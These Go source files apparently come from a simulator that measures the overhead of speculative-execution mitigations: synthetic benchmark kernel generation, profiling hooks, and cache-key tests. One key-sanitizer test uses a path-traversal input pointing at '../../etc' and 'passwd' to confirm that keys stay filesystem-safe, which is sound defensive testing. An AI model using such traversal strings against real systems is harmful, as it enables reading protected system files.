func TestIndirectCallsPredictable(t *testing.T) {
	// Kernels with indirect calls must keep mispredict rates modest: the
	// target pattern switches only every 16 iterations.
	s := ByName("511.povray_r")
	prog, err := s.Build(false, 0.2)
	if err != nil {
		t.Fatal(err)
	}
	m, err := cpu.NewMachine(core.DefaultConfig(), core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(100_000_000)
	if res.TimedOut {
		t.Fatal("timed out")
	}
	mispred := float64(res.Stats.Get("branches_mispredicted"))
	perKilo := 1000 * mispred / float64(res.Committed)
	if perKilo > 40 {
		t.Fatalf("mispredicts per kilo-instruction = %.1f: kernel too chaotic", perKilo)
	}
}

func TestGenerateIsDeterministic(t *testing.T) {
	p := Params{WorkingSetKB: 64, Iterations: 100, DataBranches: 2,
		PointerChase: 2, ExtraLoads: 1, ComputeOps: 3, IndirectCalls: 1,
		ColdStream: true, StoreEvery: 2, MulDivOps: 1, BoundsChecks: 1}
	if Generate(p, 1, true) != Generate(p, 1, true) {
		t.Fatal("Generate must be deterministic")
	}
	if Generate(p, 1, true) == Generate(p, 1, false) {
		t.Fatal("tagged and untagged builds must differ")
	}
	if Generate(p, 4, false) == Generate(p, 1, false) {
		t.Fatal("thread partitioning must change the program")
	}
}
