// Package workloads generates the benchmark kernels for the performance
// evaluation: fifteen single-threaded kernels named after the SPEC CPU2017
// benchmarks the paper runs (Figures 6, 8, 9) and seven multi-threaded
// kernels named after its PARSEC benchmarks (Figures 7, 8).
//
// The kernels are synthetic: each is parameterised to match the published
// microarchitectural character of its namesake — branch misprediction rate,
// load/store mix, pointer-chasing depth, working-set size, instruction-level
// parallelism — because mitigation overhead is a function of those
// characteristics, not of program semantics (see DESIGN.md, substitutions).
//
// When MTE is enabled the kernels are built "tagged": the heap is coloured
// at startup with IRG/STG (modelling an MTE-aware allocator) and every heap
// pointer carries the matching key, so the platform's tag-fetch traffic and
// the allocator's tagging instructions are both accounted — the MTE base
// cost the paper discusses for PARSEC.
package workloads

import (
	"fmt"
	"strings"

	"specasan/internal/asm"
	"specasan/internal/trace"
)

// Params shapes one synthetic kernel.
type Params struct {
	// WorkingSetKB is the heap size the kernel walks; beyond 32 KB it
	// spills the L1, beyond 1 MB the L2.
	WorkingSetKB int
	// Iterations is the outer-loop trip count.
	Iterations int
	// PointerChase inserts a load->load dependent chain of this depth per
	// iteration (0 = none): the mcf/omnetpp/xalancbmk character.
	PointerChase int
	// DataBranches inserts branches whose direction depends on loaded,
	// pseudo-random data (hard to predict) per iteration.
	DataBranches int
	// BoundsChecks inserts bounds-check-shaped sequences (load, compare,
	// branch, dependent load) per iteration — the pattern speculative
	// barriers are most hostile to.
	BoundsChecks int
	// ComputeOps inserts independent ALU work per iteration (ILP).
	ComputeOps int
	// MulDivOps inserts multiply/divide work per iteration.
	MulDivOps int
	// StoreEvery makes every n-th iteration store to the heap (0 = never).
	StoreEvery int
	// Stride is the heap access stride in bytes (0 = pseudo-random).
	Stride int
	// ColdStream streams the per-iteration load over a huge, never-revisited
	// untagged region: every stream load misses to DRAM (a working set far
	// beyond the caches, at zero init cost), and the bounds check gated by
	// it opens a ~DRAM-latency speculation window each iteration.
	ColdStream bool
	// IndirectCalls adds indirect calls through a two-entry function-pointer
	// table each iteration (target alternates predictably): the surface
	// SpecCFI validates.
	IndirectCalls int
	// ExtraLoads adds load pairs each iteration: an independent load from
	// a random line, then a load whose address derives from its value.
	// The pairs are mutually independent (baseline memory-level
	// parallelism); the second load of each pair is the address-dependent
	// "transmit" shape taint-tracking defences delay.
	ExtraLoads int
}

// Spec is one named benchmark.
type Spec struct {
	Name    string
	Suite   string // "SPEC2017" or "PARSEC"
	Threads int
	Params  Params
	// Source, when non-empty, overrides the synthetic generator: Build
	// assembles it verbatim (Params and the tagged flag are ignored). The
	// harness error-path tests use it to plant kernels that time out or
	// fault on demand.
	Source string
	// Trace, when non-nil, backs the spec with a recorded instruction
	// stream: Build reconstructs the recorded program — after checking the
	// trace's identity against the requested build — instead of generating
	// and assembling source, and the harness fetches through the trace's
	// replay frontend. Attach one with WithTrace, never by mutating a
	// registry spec (ByName results are shared across sweep cells).
	Trace *trace.Trace
}

// WithTrace returns a copy of the spec backed by the trace (see Spec.Trace).
func (s *Spec) WithTrace(t *trace.Trace) *Spec {
	c := *s
	c.Trace = t
	return &c
}

// TraceIdentity labels the build that Build(tagged, scale) produces for this
// spec — the identity a recording of it carries and a replay must match.
func (s *Spec) TraceIdentity(tagged bool, scale float64) trace.Identity {
	return trace.Identity{Workload: s.Name, Threads: s.Threads, Tagged: tagged, Scale: scale}
}

// CheckTrace verifies that the attached trace replays the build the caller
// is about to run. A mismatch means the spec was wired to a recording of a
// different workload, thread count, MTE mode, or scale — replaying it would
// silently simulate the wrong program.
func (s *Spec) CheckTrace(tagged bool, scale float64) error {
	if s.Trace == nil {
		return fmt.Errorf("%s: no trace attached", s.Name)
	}
	got, want := s.Trace.Meta.Identity, s.TraceIdentity(tagged, scale)
	if !got.Same(want) {
		return fmt.Errorf("%s: trace identity mismatch: recorded %s (threads=%d tagged=%v scale=%g), building %s (threads=%d tagged=%v scale=%g)",
			s.Name, got.Workload, got.Threads, got.Tagged, got.Scale,
			want.Workload, want.Threads, want.Tagged, want.Scale)
	}
	return nil
}

// RecordTrace generates and assembles the spec's kernel, runs it once on the
// golden interpreter, and returns the recorded trace, labelled with the
// build identity plus the source text's hash. Source-override specs are
// rejected: their program text lives outside the registry, so an identity
// key could alias two different programs (the same reason RunCell refuses to
// cache them).
func (s *Spec) RecordTrace(tagged bool, scale float64, cfg trace.RecordConfig) (*trace.Trace, error) {
	if s.Source != "" {
		return nil, fmt.Errorf("%s: cannot record a trace for a source-override spec", s.Name)
	}
	if s.Trace != nil {
		return nil, fmt.Errorf("%s: spec is already trace-backed", s.Name)
	}
	src := Generate(s.scaled(scale), s.Threads, tagged)
	prog, err := asm.Assemble(src)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", s.Name, err)
	}
	id := s.TraceIdentity(tagged, scale)
	id.SourceSHA = trace.SHA256Hex([]byte(src))
	return trace.Record(prog, id, cfg)
}

// scaleIters lets the harness shrink or grow every kernel uniformly.
func (s *Spec) scaled(scale float64) Params {
	p := s.Params
	p.Iterations = int(float64(p.Iterations) * scale)
	if p.Iterations < 16 {
		p.Iterations = 16
	}
	return p
}

// SPEC returns the fifteen SPEC CPU2017 kernels of Figure 9 (the same set
// underlies Figures 6 and 8), in the paper's presentation order.
func SPEC() []*Spec {
	return []*Spec{
		{Name: "500.perlbench_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 2,
			ExtraLoads:    2,
			WorkingSetKB:  64, Iterations: 21600, DataBranches: 3, BoundsChecks: 2,
			ComputeOps: 4, StoreEvery: 3, ColdStream: true}},
		{Name: "502.gcc_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 2,
			ExtraLoads:    2,
			WorkingSetKB:  128, Iterations: 19200, DataBranches: 4, BoundsChecks: 2,
			PointerChase: 1, ComputeOps: 3, StoreEvery: 4, ColdStream: true}},
		{Name: "505.mcf_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   1,
			WorkingSetKB: 128, Iterations: 12000, PointerChase: 4, DataBranches: 2,
			ComputeOps: 1, StoreEvery: 6, ColdStream: true}},
		{Name: "508.namd_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   4,
			WorkingSetKB: 48, Iterations: 21600, ComputeOps: 10, MulDivOps: 3,
			Stride: 8, BoundsChecks: 0}},
		{Name: "510.parest_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   3,
			WorkingSetKB: 96, Iterations: 19200, ComputeOps: 8, MulDivOps: 2,
			Stride: 16, BoundsChecks: 1}},
		{Name: "511.povray_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  32, Iterations: 21600, ComputeOps: 6, MulDivOps: 3,
			DataBranches: 2, BoundsChecks: 1}},
		{Name: "520.omnetpp_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    1,
			WorkingSetKB:  128, Iterations: 12000, PointerChase: 3, DataBranches: 3,
			StoreEvery: 4, ComputeOps: 1, ColdStream: true}},
		{Name: "523.xalancbmk_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    1,
			WorkingSetKB:  128, Iterations: 13200, PointerChase: 3, DataBranches: 2,
			BoundsChecks: 2, ComputeOps: 2, ColdStream: true}},
		{Name: "525.x264_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    3,
			WorkingSetKB:  96, Iterations: 19200, ComputeOps: 7, Stride: 8,
			DataBranches: 1, StoreEvery: 2, MulDivOps: 1}},
		{Name: "526.blender_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  128, Iterations: 16800, ComputeOps: 6, MulDivOps: 2,
			DataBranches: 1, BoundsChecks: 1, StoreEvery: 3}},
		{Name: "531.deepsjeng_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  64, Iterations: 19200, DataBranches: 4, BoundsChecks: 2,
			ComputeOps: 3, MulDivOps: 1}},
		{Name: "538.imagick_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   4,
			WorkingSetKB: 64, Iterations: 20400, ComputeOps: 9, MulDivOps: 2,
			Stride: 8, StoreEvery: 2}},
		{Name: "541.leela_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  48, Iterations: 20400, DataBranches: 4, PointerChase: 1,
			ComputeOps: 3, BoundsChecks: 1}},
		{Name: "544.nab_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   4,
			WorkingSetKB: 96, Iterations: 20400, ComputeOps: 9, MulDivOps: 3,
			Stride: 8}},
		{Name: "557.xz_r", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  192, Iterations: 15600, DataBranches: 3, BoundsChecks: 2,
			ComputeOps: 3, StoreEvery: 2, ColdStream: true}},
	}
}

// PARSEC returns the seven multi-threaded kernels of Figure 7.
func PARSEC() []*Spec {
	return []*Spec{
		{Name: "blackscholes", Suite: "PARSEC", Threads: 4, Params: Params{
			ExtraLoads:   4,
			WorkingSetKB: 64, Iterations: 12000, ComputeOps: 9, MulDivOps: 4,
			Stride: 8}},
		{Name: "canneal", Suite: "PARSEC", Threads: 4, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    1,
			WorkingSetKB:  128, Iterations: 7200, PointerChase: 3, DataBranches: 2,
			StoreEvery: 3, ComputeOps: 1, ColdStream: true}},
		{Name: "ferret", Suite: "PARSEC", Threads: 4, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  128, Iterations: 9600, ComputeOps: 5, DataBranches: 2,
			BoundsChecks: 1, MulDivOps: 1, StoreEvery: 4}},
		{Name: "fluidanimate", Suite: "PARSEC", Threads: 4, Params: Params{
			ExtraLoads:   2,
			WorkingSetKB: 192, Iterations: 9120, ComputeOps: 6, MulDivOps: 2,
			Stride: 16, DataBranches: 1, StoreEvery: 2}},
		{Name: "freqmine", Suite: "PARSEC", Threads: 4, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    1,
			WorkingSetKB:  128, Iterations: 8400, DataBranches: 3, PointerChase: 2,
			BoundsChecks: 1, ComputeOps: 2, StoreEvery: 4, ColdStream: true}},
		{Name: "streamcluster", Suite: "PARSEC", Threads: 4, Params: Params{
			ExtraLoads:   3,
			WorkingSetKB: 256, Iterations: 8400, ComputeOps: 7, MulDivOps: 2,
			Stride: 8, DataBranches: 1}},
		{Name: "swaptions", Suite: "PARSEC", Threads: 4, Params: Params{
			ExtraLoads:   3,
			WorkingSetKB: 48, Iterations: 12000, ComputeOps: 8, MulDivOps: 4,
			DataBranches: 1}},
	}
}

// Scaled returns the parameter-sweep variants behind the scaled-kernel
// scenario presets in examples/scenarios/: registry kernels pushed outside
// their namesakes' published envelope — warm working sets past the 1 MB L2
// (tag fetches ride DRAM-bound accesses instead of hitting tagged caches),
// pointer chains about twice as deep (each iteration holds a longer
// speculation window open), and single-threaded kernels run 4-core SPMD over
// partitioned heaps. Deliberately not part of SPEC()/PARSEC(): the figure
// sweeps reproduce the paper, these probe beyond it.
func Scaled() []*Spec {
	return []*Spec{
		// Working sets past the L2.
		{Name: "505.mcf_r.l2spill", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   1,
			WorkingSetKB: 2048, Iterations: 9600, PointerChase: 4, DataBranches: 2,
			ComputeOps: 1, StoreEvery: 6, ColdStream: true}},
		{Name: "520.omnetpp_r.l2spill", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    1,
			WorkingSetKB:  2048, Iterations: 9600, PointerChase: 3, DataBranches: 3,
			StoreEvery: 4, ComputeOps: 1, ColdStream: true}},
		{Name: "streamcluster.l2spill", Suite: "PARSEC", Threads: 4, Params: Params{
			ExtraLoads:   3,
			WorkingSetKB: 4096, Iterations: 6000, ComputeOps: 7, MulDivOps: 2,
			Stride: 8, DataBranches: 1}},
		// Deeper pointer chasing.
		{Name: "505.mcf_r.deepchase", Suite: "SPEC2017", Threads: 1, Params: Params{
			ExtraLoads:   1,
			WorkingSetKB: 512, Iterations: 7200, PointerChase: 8, DataBranches: 2,
			ComputeOps: 1, StoreEvery: 6, ColdStream: true}},
		{Name: "523.xalancbmk_r.deepchase", Suite: "SPEC2017", Threads: 1, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    1,
			WorkingSetKB:  512, Iterations: 7800, PointerChase: 6, DataBranches: 2,
			BoundsChecks: 2, ComputeOps: 2, ColdStream: true}},
		// Single-threaded kernels run 4-core SPMD over partitioned heaps.
		{Name: "505.mcf_r.spmd4", Suite: "SPEC2017", Threads: 4, Params: Params{
			ExtraLoads:   1,
			WorkingSetKB: 512, Iterations: 12000, PointerChase: 4, DataBranches: 2,
			ComputeOps: 1, StoreEvery: 6, ColdStream: true}},
		{Name: "531.deepsjeng_r.spmd4", Suite: "SPEC2017", Threads: 4, Params: Params{
			IndirectCalls: 1,
			ExtraLoads:    2,
			WorkingSetKB:  256, Iterations: 19200, DataBranches: 4, BoundsChecks: 2,
			ComputeOps: 3, MulDivOps: 1}},
	}
}

// ByName finds a benchmark in either suite, or among the scaled variants.
func ByName(name string) *Spec {
	for _, s := range append(append(SPEC(), PARSEC()...), Scaled()...) {
		if s.Name == name {
			return s
		}
	}
	return nil
}

// heapBase is where the kernel heap lives.
const heapBase = 0x200000

// Build assembles the kernel. tagged selects MTE instrumentation; scale
// multiplies the iteration count (1.0 = default).
func (s *Spec) Build(tagged bool, scale float64) (*asm.Program, error) {
	if s.Trace != nil {
		if err := s.CheckTrace(tagged, scale); err != nil {
			return nil, err
		}
		return s.Trace.Program(), nil
	}
	if s.Source != "" {
		return asm.Assemble(s.Source)
	}
	src := Generate(s.scaled(scale), s.Threads, tagged)
	return asm.Assemble(src)
}

// Generate emits the kernel's assembly text.
//
// Register conventions: X0 = thread id (pre-set by the harness for
// multi-threaded runs), X10 = heap pointer (tagged under MTE), X6 = LCG
// state, X5 = accumulator, X12 = outer loop counter, X1-X4, X7-X9, X13-X17
// scratch.
func Generate(p Params, threads int, tagged bool) string {
	var b strings.Builder
	emit := func(format string, args ...interface{}) {
		fmt.Fprintf(&b, format+"\n", args...)
	}

	heapBytes := p.WorkingSetKB * 1024
	if heapBytes < 4096 {
		heapBytes = 4096
	}
	// Per-thread partition, so SPMD threads touch disjoint heap slices.
	// The warm heap is line-granular: one live slot per 64-byte line.
	partBytes := heapBytes / threads
	mask := indexMask(partBytes)
	lineMask := mask &^ 63

	emit("_start:")
	emit("    MOV X10, #%d", heapBase)
	if threads > 1 {
		// X0 = thread id (harness-set); offset the partition.
		emit("    MOV X1, #%d", partBytes)
		emit("    MUL X1, X0, X1")
		emit("    ADD X10, X10, X1")
	}
	// X20: cold-stream cursor over a large untagged region (per thread).
	emit("    MOV X20, #%d", coldBase)
	emit("    MOV X1, #%d", 64*1024*1024)
	emit("    MUL X1, X0, X1")
	emit("    ADD X20, X20, X1")
	if tagged {
		// Allocator tags the warm partition's live granules.
		emit("    IRG X10, X10")
		emit("    MOV X13, X10")
		emit("    MOV X14, #%d", partBytes/64)
		emit("tagloop:")
		emit("    STG X13, [X13]")
		emit("    ADDG X13, X13, #64, #0")
		emit("    SUB X14, X14, #1")
		emit("    CBNZ X14, tagloop")
	}
	// Seed the LCG with the thread id so threads diverge.
	emit("    MOV X6, #88172645463325")
	emit("    ADD X6, X6, X0")
	emit("    MOV X7, #6364136223846793005")
	emit("    MOV X8, #1442695040888963407")
	emit("    MOV X5, #0")

	// Initialise the live slot of every warm line with a pseudo-random
	// in-partition line pointer (chase target / data value in one).
	emit("    MOV X13, X10")
	emit("    MOV X14, #%d", partBytes/64)
	emit("init:")
	emit("    MUL X6, X6, X7")
	emit("    ADD X6, X6, X8")
	emit("    LSR X2, X6, #33")
	emit("    AND X2, X2, #%d", lineMask)
	emit("    ADD X2, X10, X2  // random in-partition line address")
	emit("    STR X2, [X13]")
	emit("    ADD X13, X13, #64")
	emit("    SUB X14, X14, #1")
	emit("    CBNZ X14, init")

	emit("    MOV X12, #%d", p.Iterations)
	emit("    MOV X15, X10     // chase cursor")
	emit("    B loop")
	emit("    .align 64        // identical hot-loop alignment in tagged")
	emit("loop:") // and untagged builds

	// Advance the LCG; X4 = this iteration's warm line.
	emit("    MUL X6, X6, X7")
	emit("    ADD X6, X6, X8")
	emit("    LSR X2, X6, #33")
	if p.Stride > 0 {
		emit("    MOV X3, #%d", p.Iterations)
		emit("    SUB X3, X3, X12  // ascending stride index")
		emit("    MOV X13, #%d", p.Stride*64)
		emit("    MUL X3, X3, X13")
		emit("    AND X3, X3, #%d", lineMask)
	} else {
		emit("    AND X3, X2, #%d", lineMask)
	}
	emit("    ADD X4, X10, X3")

	label := 0
	if p.ColdStream {
		// Cold stream load: always a DRAM miss; the bounds check gated by
		// it is perfectly predictable but resolves only when the data
		// returns, so the rest of the iteration runs speculatively under a
		// ~DRAM-latency window. The baseline overlaps several iterations'
		// misses (MLP); delay-based defences give that overlap up.
		emit("    ADD X20, X20, #64")
		emit("    LDR X1, [X20]    // cold stream: misses to DRAM")
		emit("    CMP X1, #%d", 1<<30)
		emit("    B.HS oob%d       // bounds check: never taken", label)
	} else {
		emit("    LDR X1, [X4]     // warm stream load")
	}

	// Data-dependent branches on loaded pseudo-random bits (warm value):
	// genuinely mispredictable, biased ~6%% taken (SPEC-like rates), each
	// guarding a short inline block so wrong paths stay small.
	for i := 0; i < p.DataBranches; i++ {
		emit("    LDR X9, [X4]")
		emit("    LSR X13, X9, #%d", 7+4*i)
		emit("    AND X13, X13, #15")
		emit("    CBNZ X13, db%d", label+100+i)
		emit("    ADD X5, X5, #%d", i+1)
		emit("    EOR X5, X5, X9")
		emit("db%d:", label+100+i)
	}

	// Bounds-check-shaped dependent loads under the window.
	for i := 0; i < p.BoundsChecks; i++ {
		emit("    AND X9, X2, #%d", lineMask)
		emit("    ADD X13, X10, X9")
		emit("    LDR X14, [X13]")
		emit("    AND X14, X14, #%d", lineMask)
		emit("    ADD X14, X10, X14")
		emit("    LDR X14, [X14, #8]  // address-dependent second load")
		emit("    ADD X5, X5, X14")
	}

	// Pointer chase: serial load->load chain over the warm heap, with the
	// cursor re-canonicalised to stay tag-valid and in-partition.
	for i := 0; i < p.PointerChase; i++ {
		emit("    LDR X15, [X15]   // chase")
	}
	if p.PointerChase > 0 {
		emit("    AND X15, X15, #%d", lineMask)
		emit("    ADD X15, X10, X15")
	}

	// Load pairs: an independent random-line load feeding an
	// address-dependent second load (the STT "transmit" shape).
	for i := 0; i < p.ExtraLoads; i++ {
		emit("    LSR X13, X6, #%d", 13+5*i)
		emit("    AND X13, X13, #%d", lineMask)
		emit("    ADD X13, X10, X13")
		emit("    LDR X14, [X13]")
		emit("    AND X14, X14, #%d", lineMask)
		emit("    ADD X14, X10, X14")
		emit("    LDR X14, [X14]")
		emit("    ADD X5, X5, X14")
	}

	// Indirect calls through a function-pointer table (BTI-legal targets).
	// The target switches every 16 iterations: predictable runs, so the
	// baseline cost is the call itself, not mispredict chaos.
	for i := 0; i < p.IndirectCalls; i++ {
		emit("    LSR X13, X12, #4")
		emit("    AND X13, X13, #1")
		emit("    LSL X13, X13, #3")
		emit("    ADR X14, fntab")
		emit("    ADD X14, X14, X13")
		emit("    LDR X13, [X14]")
		emit("    BLR X13")
	}

	// Compute: work dependent on the loaded values plus independent ILP.
	for i := 0; i < p.ComputeOps; i++ {
		r := 16 + i%2
		switch i % 4 {
		case 0:
			emit("    ADD X%d, X1, #%d", r, i*3+1)
		case 1:
			emit("    EOR X%d, X%d, X2", r, r)
		case 2:
			emit("    LSR X%d, X2, #%d", r, (i%7)+1)
		case 3:
			emit("    ADD X5, X5, X%d", r)
		}
	}
	for i := 0; i < p.MulDivOps; i++ {
		if i%3 == 2 {
			emit("    ORR X16, X2, #1")
			emit("    UDIV X17, X6, X16")
		} else {
			emit("    MUL X16, X2, X7")
		}
	}

	// Periodic store: overwrite the live warm slot with a valid line
	// pointer so later chase hops through it stay tag-safe.
	if p.StoreEvery > 0 {
		emit("    AND X14, X12, #%d", p.StoreEvery-1)
		emit("    CBNZ X14, nost%d", label)
		emit("    AND X13, X5, #%d", lineMask)
		emit("    ADD X13, X10, X13")
		emit("    STR X13, [X4]")
		emit("nost%d:", label)
	}

	if p.ColdStream {
		emit("oob%d:", label)
	}

	emit("    SUB X12, X12, #1")
	emit("    CBNZ X12, loop")
	emit("    SVC #0")
	if p.IndirectCalls > 0 {
		emit("fn0:")
		emit("    BTI")
		emit("    ADD X5, X5, #1")
		emit("    RET")
		emit("fn1:")
		emit("    BTI")
		emit("    EOR X5, X5, X2")
		emit("    RET")
		emit("    .align 8")
		emit("fntab:")
		emit("    .word fn0, fn1")
	}
	return b.String()
}

// coldBase is where the cold-stream region starts (per-thread 64 MiB).
const coldBase = 0x10000000

// indexMask returns a power-of-two-minus-one mask covering the partition.
func indexMask(partBytes int) int {
	m := 1
	for m*2 <= partBytes {
		m *= 2
	}
	return m - 1
}
