// Package prof wires the stdlib runtime/pprof profilers into the
// command-line tools, so a slow sweep can be diagnosed with
// `-cpuprofile cpu.out` + `go tool pprof` without extra dependencies.
package prof

import (
	"fmt"
	"os"
	"runtime"
	"runtime/pprof"
)

// Start begins CPU profiling to cpuPath (when non-empty). The returned stop
// function ends the CPU profile and, when memPath is non-empty, writes a
// heap profile after a final GC. Call stop exactly once, on every exit path
// that should produce profiles (defer works).
func Start(cpuPath, memPath string) (stop func() error, err error) {
	var cpuFile *os.File
	if cpuPath != "" {
		cpuFile, err = os.Create(cpuPath)
		if err != nil {
			return nil, err
		}
		if err := pprof.StartCPUProfile(cpuFile); err != nil {
			cpuFile.Close()
			return nil, fmt.Errorf("start CPU profile: %w", err)
		}
	}
	return func() error {
		if cpuFile != nil {
			pprof.StopCPUProfile()
			if err := cpuFile.Close(); err != nil {
				return err
			}
		}
		if memPath != "" {
			f, err := os.Create(memPath)
			if err != nil {
				return err
			}
			defer f.Close()
			runtime.GC() // report live heap, not garbage
			if err := pprof.WriteHeapProfile(f); err != nil {
				return fmt.Errorf("write heap profile: %w", err)
			}
		}
		return nil
	}, nil
}
