package scenario

import (
	"regexp"
	"strings"
	"testing"
)

// storeSafe mirrors internal/store's key validation (the two packages must
// agree or every derived key would be rejected at the store boundary).
var storeSafe = regexp.MustCompile(`^[A-Za-z0-9_][A-Za-z0-9._-]*$`)

func TestCellKeySafeAndCollisionFree(t *testing.T) {
	keys := map[string]string{}
	for _, c := range [][2]string{
		{"505.mcf_r", "SpecASan"},
		{"505.mcf_r", "SpecASan+CFI"},
		{"505.mcf/r", "SpecASan"},  // sanitizes onto the same slug as 505.mcf_r...
		{"505.mcf_r", "Spec ASan"}, // ...and this onto SpecASan's
		{"wl", "m"},
		{"wl_", "m"}, // slug aliases wl/_m vs wl_/m without the guard hash
		{"w", "l_m"},
		{"", ""},
		{"../../etc", "passwd"},
		{strings.Repeat("very-long-benchmark-name", 20), "mit"},
	} {
		k := CellKey(c[0], c[1])
		if !storeSafe.MatchString(k) {
			t.Errorf("CellKey(%q,%q) = %q not store-safe", c[0], c[1], k)
		}
		if len(k) > 120 {
			t.Errorf("CellKey(%q,%q) too long: %d", c[0], c[1], len(k))
		}
		if prev, dup := keys[k]; dup {
			t.Errorf("collision: %q produced by %v and %v", k, prev, c)
		}
		keys[k] = c[0] + "/" + c[1]
	}
	if CellKey("505.mcf_r", "SpecASan") != CellKey("505.mcf_r", "SpecASan") {
		t.Errorf("CellKey not deterministic")
	}
}

func TestChaosCellKeyCoordinatesMatter(t *testing.T) {
	base := ChaosCellKey("505.mcf_r", "SpecASan", []string{"evict"}, 1)
	for _, other := range []string{
		ChaosCellKey("505.mcf_r", "SpecASan", []string{"evict"}, 2),
		ChaosCellKey("505.mcf_r", "SpecASan", []string{"evict", "latency"}, 1),
		ChaosCellKey("505.mcf_r", "Unsafe", []string{"evict"}, 1),
	} {
		if other == base {
			t.Errorf("distinct chaos cells share key %q", base)
		}
	}
	if !storeSafe.MatchString(base) {
		t.Errorf("chaos cell key %q not store-safe", base)
	}
}

func TestResultHashNormalizesSchedulingKnobs(t *testing.T) {
	a := Default()
	b := Default()
	b.Name = "renamed"
	b.Run.Workers = 7
	b.Run.RetryBudgetFactor = 9
	b.Run.MaxRetries = 3
	if a.ResultHash() != b.ResultHash() {
		t.Errorf("workers/retry knobs changed ResultHash: %s vs %s",
			a.ResultHash(), b.ResultHash())
	}
	if a.Hash() == b.Hash() {
		t.Errorf("identity Hash should still see the knobs")
	}
}

func TestResultHashIgnoresCellCoordinates(t *testing.T) {
	a := Default()
	b := Default()
	b.Mitigations = append(b.Mitigations, "DelayOnMiss") // extra sweep column
	b.Workloads = b.Workloads[:3]                        // fewer rows
	if a.ResultHash() != b.ResultHash() {
		t.Errorf("cell coordinates changed ResultHash")
	}
}

func TestResultHashSeesSemanticChanges(t *testing.T) {
	a := Default()
	for _, mut := range []func(*Scenario){
		func(s *Scenario) { s.Machine.ROBEntries *= 2 },
		func(s *Scenario) { s.Run.Scale = 0.5 },
		func(s *Scenario) { s.Run.MaxCycles /= 2 },
		func(s *Scenario) { s.Run.SkipIdle = false },
	} {
		b := Default()
		mut(b)
		if a.ResultHash() == b.ResultHash() {
			t.Errorf("semantic change invisible to ResultHash")
		}
	}
}

func TestResultHashChaosContext(t *testing.T) {
	a, _ := Preset(PresetChaosSmoke)
	b, _ := Preset(PresetChaosSmoke)
	b.Chaos.Seeds = 99
	b.Chaos.Seed0 = 7
	b.Chaos.Kinds = []string{"evict"}
	b.Chaos.VerdictSeeds = 0
	if a.ResultHash() != b.ResultHash() {
		t.Errorf("chaos cell-enumeration knobs changed ResultHash")
	}
	c, _ := Preset(PresetChaosSmoke)
	c.Chaos.Rate = 0.5
	if a.ResultHash() == c.ResultHash() {
		t.Errorf("chaos rate change invisible to ResultHash")
	}
}

func TestRetryKnobValidation(t *testing.T) {
	s := Default()
	s.Run.MaxRetries = -1
	if err := s.Validate(); err == nil {
		t.Errorf("negative max_retries accepted")
	}
	s = Default()
	s.Run.MaxRetries = 9
	if err := s.Validate(); err == nil {
		t.Errorf("max_retries 9 accepted")
	}
	s = Default()
	s.Run.MaxRetries = 2
	s.Run.RetryBudgetFactor = 0
	if err := s.Validate(); err == nil {
		t.Errorf("zero retry_budget_factor with retries accepted")
	}
	s = Default()
	s.Run.MaxRetries = 0
	s.Run.RetryBudgetFactor = 0 // retries off: factor unused, allowed
	if err := s.Validate(); err != nil {
		t.Errorf("retries-off scenario rejected: %v", err)
	}
}

func TestDefaultRetryKnobsMatchLegacyPolicy(t *testing.T) {
	r := DefaultRunOptions()
	if r.RetryBudgetFactor != 4 || r.MaxRetries != 1 {
		t.Fatalf("default retry policy %d/%d, want the PR 1 hardcoded 4x/1",
			r.RetryBudgetFactor, r.MaxRetries)
	}
}
