package scenario

// Result-store addressing. The store (internal/store) keys every cached
// result by (result-context hash, cell key):
//
//   - ResultHash identifies the *shared* result-determining context of a
//     run: the machine configuration, the result-relevant run options, and
//     the chaos physics. Scheduling knobs (workers) and failure-handling
//     knobs (retry policy) are normalized out, because the deterministic
//     sweep contract makes results byte-identical across worker counts and a
//     cached entry only ever holds a *successful* run, which is the same
//     however many retries it took to get there. The per-cell coordinates
//     (which workload, which mitigation, which chaos seed) are likewise
//     normalized out — they live in the cell key — so extending a scenario
//     with another sweep column or row reuses every already-cached cell.
//   - CellKey / ChaosCellKey name the cell inside that context. They are
//     filesystem-safe: readable slug plus a short hash of the exact raw
//     coordinates, so sanitization can never alias two distinct cells.
//
// Together: same (ResultHash, cell key) ⇒ byte-identical result, which is
// what lets the serve daemon and the CLIs answer repeated queries from the
// store instead of re-simulating.

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
)

// ResultHash returns the canonical hash of the scenario's shared
// result-determining context (see the package comment above for what is
// normalized out and why). Two scenarios with equal ResultHash produce
// byte-identical results for any cell they have in common.
func (s *Scenario) ResultHash() string {
	c := s.canonical()
	// Cell coordinates: carried by the cell key, not the context.
	c.Mitigations = nil
	c.Workloads = nil
